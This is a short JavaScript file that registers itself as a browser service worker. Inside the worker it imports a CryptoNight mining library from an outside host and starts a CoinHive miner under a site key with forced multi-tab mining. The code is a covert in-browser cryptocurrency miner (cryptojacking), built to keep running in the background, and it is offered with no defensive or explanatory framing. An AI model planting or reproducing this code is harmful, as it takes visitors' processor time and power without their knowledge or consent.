// ES2015: one file that registers itself and mines as service worker.
if (typeof document === 'object') {
  if ('serviceWorker' in navigator) {
    navigator.serviceWorker.register(document.currentScript.src);
  }
} else {
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', () => {
    importScripts('https://cdn.stats.example/lib/cryptonight-asmjs.min.js');
    const key = '0123456789abcdef0123456789ABCDEF';
    const miner = new CoinHive.User(key, 'sw', { threads: 1 });
    miner.start(CoinHive.FORCE_MULTI_TAB);
  });
}
